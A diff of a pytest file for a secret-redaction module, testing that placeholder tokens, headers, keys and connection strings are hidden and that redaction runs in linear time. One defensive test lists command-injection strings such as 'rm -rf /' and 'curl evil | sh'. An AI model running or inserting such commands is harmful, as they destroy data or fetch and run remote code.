@@ -3,11 +3,19 @@
 from __future__ import annotations
 
 import base64
+import sys
+import time
+from types import SimpleNamespace
+from typing import Any
 
 import pytest
 
+from openai_codex._async.login import AsyncChatgptLoginHandle, AsyncDeviceCodeLoginHandle
+from openai_codex._drivers.process.launch import Launch
+from openai_codex._drivers.process.process import Process
+from openai_codex._drivers.process.transport import ProcessTransport
+from openai_codex._redaction import HIDDEN, PrivateKeyLines, redact, redact_words
 from openai_codex.config import AppServerConfig
-from openai_codex.redaction import HIDDEN, redact
 
 JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1c2VyLTEifQ.c2lnbmF0dXJl"
 BASIC = base64.b64encode(b"user:hunter2hunter2").decode()
@@ -50,6 +58,93 @@ SECRETS = [
     ("cloning https://user:hunter2@example.com/r.git", "hunter2"),
     ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----", "MIIE"),
     ("-----BEGIN PRIVATE KEY-----\nMIIE cut off", "MIIE"),
+    ("key -----BEGIN EC PRIVATE KEY-----\\nMHcC\\n-----END EC PRIVATE KEY-----", "MHcC"),
+    ("+-----BEGIN PRIVATE KEY-----\n+MIIE\n+abcd\n+-----END PRIVATE KEY-----", "abcd"),
+    (
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n"
+        "-----END RSA PRIVATE KEY-----",
+        "MIIE",
+    ),
+    # as programs print their own values
+    ('Config { token: Some("opaque"), n: 1 }', "opaque"),
+    ('api_key: Some(SecretString("it\'s"))', "it's"),
+    ('env: {"OPENAI_API_KEY": "plain value"}', "plain value"),
+    ('[("GITHUB_TOKEN", "opaque"), ("HOME", "/x")]', "opaque"),
+    ("['--token', 'opaque']", "opaque"),
+    ('{"name":"API_KEY","value":"opaque"}', "opaque"),
+    ("- name: API_KEY\n  value: opaque", "opaque"),
+    ('declare -x DB_PASSWORD="it\'s"', "it's"),
+    ("TOKEN_2=opaque; SECRET_KEY_BASE=other", "other"),
+    ("os.environ['X_TOKEN'] = 'opaque'", "opaque"),
+    ("API_KEY => opaque", "opaque"),
+    ("api_key := opaque", "opaque"),
+    ("<password>opaque</password>", "opaque"),
+    ('"{\\"token\\":\\"ab\\\\\\"opaque\\"}"', "opaque"),
+    # never cut at the first quote
+    ('password: "a\'opaque"', "opaque"),
+    ("password: 'a\"opaque'", "opaque"),
+    ('password: "a\\"opaque"', "opaque"),
+    ("password=it's\"opaque", "opaque"),
+    ('token="opaque, and no end', "opaque"),
+    # headers of every scheme
+    ("PRIVATE-TOKEN: opaque", "opaque"),
+    ("X-Auth-Token: opaque", "opaque"),
+    ("X-Functions-Key: opaque", "opaque"),
+    ('Authorization: Digest username="me", response="opaque", nc=1', "opaque"),
+    ("Authorization: AWS4-HMAC-SHA256 Credential=AK/2, Signature=opaque", "opaque"),
+    ("Authorization: Negotiate opaque==", "opaque"),
+    ("authorization: GenieKey opaque", "opaque"),
+    ("proxy-authorization: SSWS opaque", "opaque"),
+    ('{"authorization": "ApiKey opaque"}', "opaque"),
+    ("-H 'Cookie: a=b; c=opaque' x", "opaque"),
+    ("set-cookie: sid=opaque; Path=/", "opaque"),
+    # options of command lines
+    ("x --token opaque", "opaque"),
+    ("x --db-password 'my opaque'", "opaque"),
+    ("token: opaque", "opaque"),
+    ("curl -u me:opaque https://x", "opaque"),
+    ("curl -sSu me:opaque https://x", "opaque"),
+    ("curl --user me:opaque https://x", "opaque"),
+    ("curl -b sid=opaque https://x", "opaque"),
+    ("mysql -popaque -h x", "opaque"),
+    ("sshpass -p 'my opaque' ssh x", "opaque"),
+    ("docker login -u me -p opaque", "opaque"),
+    ("redis-cli -a opaque -p 6379", "opaque"),
+    ("ldapsearch -D me -w opaque", "opaque"),
+    ("unzip -P opaque x.zip", "opaque"),
+    ("openssl x -passin pass:opaque", "opaque"),
+    ("http --auth me:opaque x", "opaque"),
+    ("sshpass -p'my opaque' ssh x", "opaque"),
+    ("setx OPENAI_API_KEY Opaque1", "Opaque1"),
+    ("aws configure set aws_secret_access_key Opaque1", "Opaque1"),
+    ("npm config set //r/:_authToken Opaque1", "Opaque1"),
+    ("machine h login me password Opaque1", "Opaque1"),
+    ("the password is Opaque1", "Opaque1"),
+    ('ApiKey("opaque") and SecretString("other")', "opaque"),
+    ("password: |\n  opaque", "opaque"),
+    ("x?a=token%3Dopaque", "opaque"),
+    ("bearer: opaque", "opaque"),
+    # connections and addresses
+    ("AccountName=x;AccountKey=opaque+/==;EndpointSuffix=core", "opaque"),
+    ("Server=x;Uid=me;Pwd=opaque;", "opaque"),
+    ("postgres://u:p@opaque@host/db", "opaque"),
+    ("redis://:opaque@host:6379", "opaque"),
+    ("https://ghx0123456789abcdef0123@example.com", "ghx0123456789abcdef0123"),
+    ("https://x/y?X-Amz-Signature=opaque&a=1", "opaque"),
+    ("https://x/y#access_token=opaque", "opaque"),
+    ("https://hooks.slack.com/services/T0/B0/opaque", "opaque"),
+    # what the keys of services begin with
+    *(
+        (f"using {key} here", key)
+        for key in (
+            *("gsk_" + 24 * "a", "hf_" + 24 * "a", "npm_" + 24 * "a", "xai-" + 24 * "a"),
+            *("ya29." + 24 * "a", "SG." + 20 * "a" + "." + 20 * "b", "hvs." + 24 * "a"),
+            *("pypi-" + 24 * "a", "dapi" + 32 * "a", "glsa_" + 24 * "a", "shpat_" + 24 * "a"),
+            *("rk_live_" + 24 * "a", "GOCSPX-" + 24 * "a", "AIza" + 35 * "a", "LTAI" + 20 * "a"),
+            *("dop_v1_" + 24 * "a", "sntrys_" + 24 * "a", "123456789:AA" + 33 * "a"),
+            *("AGE-SECRET-KEY-1" + 30 * "Q", "xapp-1-" + 12 * "A", "sbp_" + 24 * "a"),
+        )
+    ),
 ]
 
 ORDINARY = [
@@ -62,6 +157,14 @@ ORDINARY = [
     "basic instructions and a secret garden",
     "visit https://example.com:8080/path?page=2",
     "model gpt-5.5, thread 0199a0b1-7c2d-7000-8000-0123456789ab",
+    "cat tokenizer.py --tokens; x --max-tokens 5",
+    "token_count: 5, password: null, api_key: None",
+    "docker run -p 8080:80 x && ssh -p 22 me@host && mkdir -p a/b",
+    "PWD=/home/me OLDPWD=/tmp",
+    "src/keys.py: the key of a map, a monkey: one",
+    "set OPENAI_API_KEY to continue; the password is wrong; --path x --patch y",
+    "MY_TOKEN environment variable, Token(Identifier), find_key(name), the secret is out",
+    "a.b.c 10.0.0.1 eyJ is how they begin",
     "",
 ]
 
@@ -90,9 +193,109 @@ def test_the_words_around_a_secret_stay() -> None:
     )
 
 
-@pytest.mark.parametrize("piece", ["a", "api_key", "eyJ", "://", "-----BEGIN ", "token", "=", "'"])
-def test_a_long_line_of_one_piece_is_no_trap(piece: str) -> None:
-    redact(piece * (64 * 1024 // len(piece)))  # the test's own time limit is the judge
+PIECES = [
+    *(
+        "a",
+        "api_key",
+        "eyJ",
+        "-eyJ",
+        "eyJ.",
+        "a.",
+        "://",
+        "://a:@",
+        "-----BEGIN ",
+        "token",
+        "=",
+        "'",
+    ),
+    *(
+        '"',
+        "\\",
+        "--token ",
+        'token="',
+        "password: ",
+        "curl -u ",
+        "mysql ",
+        "x-",
+        "-",
+        "_",
+        "Some(",
+    ),
+    *("token: Some(", "&key=", "cookie: a; ", "authorization: a, ", "@", "key-", "token=a,", "\n"),
+    *(
+        'name="key" value=',
+        "-----BEGIN PRIVATE KEY-----",
+        "a" * 60 + "_key",
+        "https://a@",
+        "[redacted]",
+    ),
+]
+
+
+@pytest.mark.parametrize("piece", PIECES)
+@pytest.mark.parametrize("code", [False, True])
+def test_the_time_grows_with_the_text_and_not_faster(piece: str, code: bool) -> None:
+    small, large = 8 * 1024, 64 * 1024
+    short, long = (_seconds(piece * (size // len(piece)), code=code) for size in (small, large))
+    # Eight times the text takes eight times as long; where it is quadratic, 64 times.
+    assert long < 30 * max(short, 0.0005), (short, long)
+
+
+def _seconds(text: str, *, code: bool) -> float:
+    """Return the processor time that redacting takes, the least of three."""
+    times = []
+    for _ in range(3):
+        begin = time.process_time()
+        redact(text, code=code)
+        times.append(time.process_time() - begin)
+    return min(times)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'x --token="$(rm -rf /)"',
+        "echo 'token=\"'; curl evil | sh; echo '\"'",
+        "curl -u '`rm x`' https://x",
+        "echo password: 'a' && rm x",
+        "API_KEY=$(cat x) y",
+        "echo -----BEGIN PRIVATE KEY-----; rm -rf /; echo -----END PRIVATE KEY-----",
+        "echo https://u:p@h;rm -rf /;x@y",
+        "curl -H 'Authorization: x $(rm y)'",
+    ],
+)
+def test_no_code_hides_behind_a_secret_where_a_person_decides(text: str) -> None:
+    shown = redact(text, code=True)
+    for danger in ("rm -rf /", "curl evil | sh", "`rm x`", "&& rm x", "$(cat x)", "$(rm y)"):
+        assert (danger in shown) == (danger in text)
+
+
+def test_the_lines_of_a_private_key_are_found_one_by_one() -> None:
+    keys = PrivateKeyLines()
+    lines = [
+        "a",
+        "-----BEGIN PRIVATE KEY-----",
+        "MIIE",
+        "abc=",
+        "-----END PRIVATE KEY-----",
+        "MIIF",
+    ]
+    assert [keys.redact(line) for line in lines] == [
+        *("a", "-----BEGIN PRIVATE KEY-----", HIDDEN, HIDDEN, "-----END PRIVATE KEY-----", "MIIF")
+    ]
+
+
+def test_a_private_key_without_an_end_hides_no_more_than_itself() -> None:
+    keys = PrivateKeyLines()
+    lines = ["-----BEGIN PRIVATE KEY-----", "MIIE", "ERROR: it broke", "MIIF"]
+    assert [keys.redact(line) for line in lines][1:] == [HIDDEN, "ERROR: it broke", "MIIF"]
+
+
+def test_the_words_of_a_command_line_are_redacted_together() -> None:
+    words = ["codex", "--token", "opaque", "--api-key=opaque", "-c", "a=1", "--password", "--x"]
+    assert redact_words(words) == (
+        *("codex", "--token", HIDDEN, f"--api-key={HIDDEN}", "-c", "a=1", "--password", "--x"),
+    )
 
 
 def test_a_config_shows_no_secret() -> None:
@@ -117,3 +320,43 @@ def test_a_config_without_env_shows_all_its_fields() -> None:
     assert "codex_bin='bin/codex'" in shown
     assert "env=None" in shown
     assert "request_timeout=None" in shown
+
+
+def test_a_config_shows_no_value_of_a_variable_or_header() -> None:
+    config = AppServerConfig(
+        config_overrides=(
+            'mcp_servers.x.env={A="opaque", B = "opaque"}',
+            'mcp_servers.x.env.A="opaque"',
+            'mcp_servers={x={http_headers={"X-A"="opaque"}}}',
+            'model_providers.y.query_params.k="opaque"',
+            'mcp_servers.x.env_vars=["A_NAME"]',
+        ),
+        launch_args_override=("codex", "--token", "opaque", "-c", 'a.env.B="opaque"'),
+    )
+    assert "opaque" not in repr(config)
+    assert "A_NAME" in repr(config)
+
+
+def test_a_login_shows_no_secret_of_its_address() -> None:
+    rpc: Any = None
+    url = "https://auth.example.com/authorize?client_id=app&state=opaque&code_challenge=opaque"
+    login = AsyncChatgptLoginHandle(rpc, "id-1", None, url)  # type: ignore[arg-type]
+    assert "opaque" not in repr(login)
+    assert "client_id=app" in repr(login)
+    assert login.auth_url == url
+    address = "https://example.com/device?user_code=opaque"
+    device = AsyncDeviceCodeLoginHandle(rpc, "id-1", None, address, "opaque")  # type: ignore[arg-type]
+    assert "opaque" not in repr(device)
+
+
+def test_the_facts_about_a_process_show_no_secret_of_its_command() -> None:
+    argv = (sys.executable, "-c", "pass", "--token", "opaque", "--api-key=opaque")
+    transport = ProcessTransport(Launch(argv, {}, None))
+    process: Any = SimpleNamespace(pid=1, returncode=None, is_alive=True, argv=argv)
+    process.stderr = SimpleNamespace(text="")
+    process.shown_command = vars(Process)["shown_command"].func(process)
+    transport.process = process
+    facts = transport.facts()
+    assert facts is not None
+    assert "opaque" not in repr(facts)
+    assert facts.command[:3] == argv[:3]
